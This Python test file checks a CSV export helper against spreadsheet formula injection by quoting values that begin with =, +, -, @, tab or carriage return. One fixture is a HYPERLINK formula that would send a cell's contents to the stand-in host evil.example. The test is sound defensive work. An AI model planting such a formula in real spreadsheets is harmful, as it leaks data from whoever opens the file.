"""CSV exports are safe to open (issue 23.6, OWASP's CSV injection rule): text a
spreadsheet would run as a formula is written as text; numbers stay numbers; and
every CSV WeCare writes goes through the one helper."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from wecare_common.spreadsheet import FORMULA_STARTS, cell, write_csv

REPO = Path(__file__).resolve().parents[3]
HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2;"Clicca qui")'


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_text_a_spreadsheet_would_run_is_written_as_text(start: str) -> None:
    value = f"{start}1+1"
    assert cell(value) == "'" + value


def test_the_formula_starts_are_owasp_s() -> None:
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


def test_a_name_with_a_hyperlink_formula_is_only_text() -> None:
    text = write_csv(("fiscal_code", "last_name", "taxable_cents"), [
        {"fiscal_code": "RSSMRA85T10A562S", "last_name": HYPERLINK, "taxable_cents": 0}])
    (row,) = read(text)
    assert row["last_name"] == "'" + HYPERLINK  # the quote: a spreadsheet shows it as text
    assert row["fiscal_code"] == "RSSMRA85T10A562S"
    # the ; inside the formula is quoted, not a column break
    assert text.splitlines()[1].count(";") == 2 + HYPERLINK.count(";")


def test_numbers_stay_numbers_and_text_that_looks_like_one_does_not() -> None:
    (row,) = read(write_csv(("amount_cents", "note", "empty"), [
        {"amount_cents": -1250, "note": "-1250", "empty": None}]))
    assert row == {"amount_cents": "-1250", "note": "'-1250", "empty": ""}


def test_ordinary_text_is_untouched() -> None:
    for value in ("Rossi", "D'Amico", "Müller-Lüdenscheidt", "a=b", "1+1", " =x"):
        assert cell(value) == value


def test_no_module_writes_csv_but_the_helper() -> None:
    """A new export that wrote CSV its own way would skip the rule."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = []
    for folder in ("libs/common/wecare_common", "gateway/gateway", "web/web", "services"):
        for path in (REPO / folder).rglob("*.py"):
            if "tests" in path.parts or path.name == "spreadsheet.py":
                continue
            if writers.search(path.read_text()):
                offenders.append(str(path.relative_to(REPO)))
    assert offenders == []
